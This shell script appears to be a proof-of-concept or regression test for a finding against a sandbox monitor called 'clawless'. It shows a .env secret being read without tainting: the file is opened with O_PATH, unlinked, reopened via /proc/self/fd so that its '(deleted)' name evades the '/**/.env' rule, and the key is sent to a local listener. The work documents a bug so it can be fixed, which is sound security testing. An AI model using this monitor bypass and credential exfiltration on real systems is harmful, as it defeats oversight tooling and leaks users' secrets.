#!/bin/sh
# Finding 1: a workspace .env read without tainting, then sent to 127.0.0.7:443.
# O_PATH handle (decided as `visible`), unlink .env, reopen /proc/self/fd/N:
# the monitor decided on "/root/ws1/.env (deleted)", which `/**/.env` misses.
set -e
D=$(cd "$(dirname "$0")" && pwd); BIN=${BIN:-$D/../target/debug/clawless}
gcc -O1 -o "$D/deleted_name" "$D/deleted_name.c"
mkdir -p /root/ws1 && cd /root/ws1 && echo "API_KEY=hunter2-secret" > .env && cp "$D/deleted_name" .
python3 "$D/listen.py" 127.0.0.7 443 > /tmp/l1.out 2>&1 & L=$!; sleep 0.5
timeout 20 "$BIN" exec -- ./deleted_name || true
sleep 1; kill $L 2>/dev/null; cat /tmp/l1.out   # before the fix: GOT b'API_KEY=hunter2-secret\n'
